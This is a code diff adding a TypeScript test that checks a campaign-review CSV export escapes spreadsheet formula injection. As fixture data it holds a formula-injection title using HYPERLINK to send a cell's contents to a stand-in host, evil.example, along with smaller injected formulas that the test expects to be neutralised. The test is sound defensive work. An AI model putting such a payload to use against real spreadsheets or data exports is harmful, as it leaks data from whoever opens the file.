@@ -9,7 +9,8 @@ import { createCampaign, insertReviews, type CampaignFixture } from '../test/fix
 import { credentialHeaders, call, createHarness, expectError, type Harness } from '../test/harness'
 import { createTestStaff } from '../test/staff'
 import type { TestMember } from '../test/members'
-import { parseCsv } from './csv'
+import { parseCsv } from '../services/csv'
+import { formulaCells, spreadsheetCells } from '../test/spreadsheet'
 import { EXPORT_BATCH, exportReviewPhotos } from './review-export'
 import { unzipSync } from 'fflate'
 import { photoKey } from '../services/review-photos'
@@ -71,6 +72,18 @@ describe("a campaign's published reviews to take away", () => {
       ['campaign.export-reviews', 'csv'],
       ['campaign.export-reviews', 'json'],
     ])
+  })
+
+  it('gives a spreadsheet no formula, with commas or semicolons as separator, whatever reviewers wrote', async () => {
+    const campaign = await createCampaign(h.deps.db, h.clock.now())
+    await reviewsOf(campaign, 1, { tag: 'formula' })
+    const title = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    const text = 'Fine product;=1+1\n@SUM(1,2)'
+    await h.deps.db.update(reviews).set({ title, body: text }).where(eq(reviews.campaignId, campaign.campaignId))
+    const csv = await (await download(campaign, 'csv')).text()
+    expect(formulaCells(csv)).toEqual([])
+    const [, row] = spreadsheetCells(csv, ',')
+    expect(row!.map((cell) => cell.text).slice(2, 4)).toEqual([`'${title}`, "Fine product;'=1+1\n'@SUM(1,2)"])
   })
 
   it('is an empty file for a campaign without published reviews, a 404 for none, and refused to other roles', async () => {
